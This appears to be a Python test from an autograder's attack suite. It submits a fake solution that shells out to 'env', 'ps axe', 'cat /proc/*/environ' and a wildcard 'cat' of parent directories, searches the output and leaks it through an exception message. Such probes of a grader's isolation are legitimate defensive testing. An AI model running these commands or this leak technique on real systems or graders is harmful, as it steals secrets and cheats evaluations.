"""Asks a shell for the environment, the processes and the files.

A shell, if there is one, sees no more.
"""

from tests.autograder.attacks.tools import SEARCH, answered, write

KIND = "reading"
ITEM = "environment"
SCORES = {"double": 0, "count": 1}
STATUS = "graded"
DOUBLE = (
    SEARCH
    + """
import subprocess

for command in ("env", "set", "ps axe", "cat ../../../*/*/*", "cat /proc/*/environ"):
    try:
        done = subprocess.run(command, shell=True, capture_output=True, timeout=2)
        search(done.stdout)
    except Exception:
        pass

def double(x):
    raise ValueError(tell())

tell()
"""
)


def hand_in(folder, released):
    write(folder, answered(released, double_solution=DOUBLE))
